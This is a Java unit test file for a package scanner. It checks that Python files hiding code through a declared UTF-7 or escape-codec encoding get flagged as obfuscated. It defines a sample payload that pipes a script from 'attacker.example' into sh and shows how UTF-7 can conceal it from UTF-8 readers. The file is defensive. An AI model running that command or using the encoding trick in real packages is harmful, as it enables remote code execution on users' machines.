package dev.divergence.archive;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.model.RiskFlag;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/**
 * PEP 263 declarations are read where and as Python reads them, and a file is decoded as the interpreter decodes it
 * (red team round 8, c5 and c6: a UTF-7 run that is a comment to a UTF-8 reader and code to Python).
 */
class PythonEncodingTest {

    /** What Python's UTF-7 encoder writes for a text as one run: "+" and modified base64 of UTF-16BE, no padding. */
    static String utf7Run(String text) {
        return "+" + Base64.getEncoder().encodeToString(text.getBytes(Charset.forName("UTF-16BE"))).replace("=", "") + "-";
    }

    private static final String PAYLOAD = "__import__('os').system('curl -s https://attacker.example/p | sh')";

    @Test
    void theDeclarationIsReadOnTheFirstTwoLinesAsThePythonTokenizerDoes() {
        assertEquals(Optional.of("utf-7"), PythonEncoding.effective("# -*- coding: utf-7 -*-\nx = 1\n")
                .map(PythonEncoding.Declaration::codec));
        assertEquals(Optional.of("latin-1"), PythonEncoding.effective("#!/usr/bin/env python\n# vim: set fileencoding=latin-1 :\n")
                .map(PythonEncoding.Declaration::codec));
        // after a line of code the second line declares nothing; the third never does
        assertEquals(Optional.empty(), PythonEncoding.effective("import os\n# coding: utf-7\n"));
        assertEquals(Optional.empty(), PythonEncoding.effective("#\n#\n# coding: utf-7\n"));
        // a lone CR ends a line for the tokenizer, and a BOM is dropped before the pattern applies
        assertEquals(Optional.of("utf-7"), PythonEncoding.effective("#!python\r# coding=utf-7\r").map(PythonEncoding.Declaration::codec));
        assertEquals(Optional.of("utf-7"), PythonEncoding.effective("\ufeff# coding: utf-7\n").map(PythonEncoding.Declaration::codec));
        // "coding" anywhere in the comment, as ".*?coding[:=]" finds it: a keyword expansion's URL too
        assertEquals(Optional.of("utf-7"), PythonEncoding.effective("# $HeadURL: https://svn.example/coding:utf-7/x $\n")
                .map(PythonEncoding.Declaration::codec));
        // declarations() sees the second line even after code: what a normalisation must keep as it was
        assertEquals(List.of(1), PythonEncoding.declarations("import os\n# coding: utf-7\n").stream()
                .map(PythonEncoding.Declaration::line).toList());
    }

    @Test
    void onlyCodecsThatReadAsciiAsAsciiAreTransparent() {
        for (String c : List.of("utf-8", "UTF8", "utf_8_sig", "utf-8-unix", "ascii", "us-ascii", "latin-1", "Latin1",
                "iso-8859-15", "ISO8859_2", "cp1252", "windows-1250")) {
            assertTrue(PythonEncoding.asciiTransparent(c), c);
        }
        for (String c : List.of("utf-7", "u7", "UTF_7", "unicode_escape", "raw-unicode-escape", "utf-16", "shift_jis",
                "cp932", "hz", "iso2022_jp", "big5", "rot13", "no-such-codec")) {
            assertFalse(PythonEncoding.asciiTransparent(c), c);
        }
    }

    @Test
    void utf7AndEscapeCodecsDecodeAsPythonDoes() {
        String src = "# -*- coding: utf-7 -*-\nx = 1\n# " + utf7Run("\n" + PAYLOAD + "\n#") + "\n";
        String decoded = PythonEncoding.decodeAsPython(src.getBytes(StandardCharsets.US_ASCII)).orElseThrow();
        assertTrue(decoded.contains("\n" + PAYLOAD + "\n"), decoded);
        assertEquals(Optional.of("a+b"), PythonEncoding.utf7("a+-b".getBytes(StandardCharsets.US_ASCII)));
        assertEquals(Optional.empty(), PythonEncoding.utf7(new byte[] {'a', (byte) 0xe9}), "a byte over 0x7f fails");
        String esc = "# coding: unicode_escape\n# \\x0a" + "import os\n";
        assertTrue(PythonEncoding.decodeAsPython(esc.getBytes(StandardCharsets.US_ASCII)).orElseThrow()
                .contains("# \nimport os"));
        String raw = "# coding: raw_unicode_escape\n# \\u000aimport os\n# \\\\u000a stays\n";
        String rawDecoded = PythonEncoding.decodeAsPython(raw.getBytes(StandardCharsets.US_ASCII)).orElseThrow();
        assertTrue(rawDecoded.contains("# \nimport os"), rawDecoded);
        assertTrue(rawDecoded.contains("\\\\u000a stays"), rawDecoded);
        // a transparent codec is read as the bytes are: nothing to decode
        assertEquals(Optional.empty(), PythonEncoding.decodeAsPython("# coding: latin-1\nx = 1\n".getBytes(StandardCharsets.US_ASCII)));
        // a codec Java has: Shift_JIS
        byte[] sjis = "# coding: shift_jis\ns = '\u8868'\n".getBytes(Charset.forName("Shift_JIS"));
        assertEquals(Optional.of("# coding: shift_jis\ns = '\u8868'\n"), PythonEncoding.decodeAsPython(sjis));
    }

    @Test
    void aPythonFileDeclaringAHidingCodecIsObfuscated() {
        byte[] u7 = ("# -*- coding: utf-7 -*-\n" + utf7Run(PAYLOAD) + "\n").getBytes(StandardCharsets.US_ASCII);
        assertTrue(ContentSignals.scan("pkg/__init__.py", u7, 1 << 20).contains(RiskFlag.OBFUSCATED));
        assertTrue(ContentSignals.whole("pkg/__init__.py", u7, 1 << 20).contains(RiskFlag.OBFUSCATED));
        // the same text under a transparent codec, or in a file that is no Python source, is not
        byte[] latin = "# -*- coding: latin-1 -*-\nx = 1\n".getBytes(StandardCharsets.US_ASCII);
        assertFalse(ContentSignals.scan("pkg/__init__.py", latin, 1 << 20).contains(RiskFlag.OBFUSCATED));
        assertFalse(ContentSignals.scan("notes.txt", u7, 1 << 20).contains(RiskFlag.OBFUSCATED));
        // a declaration after code is none
        byte[] late = ("x = 1\n# coding: utf-7\n").getBytes(StandardCharsets.US_ASCII);
        assertFalse(ContentSignals.scan("pkg/__init__.py", late, 1 << 20).contains(RiskFlag.OBFUSCATED));
    }
}
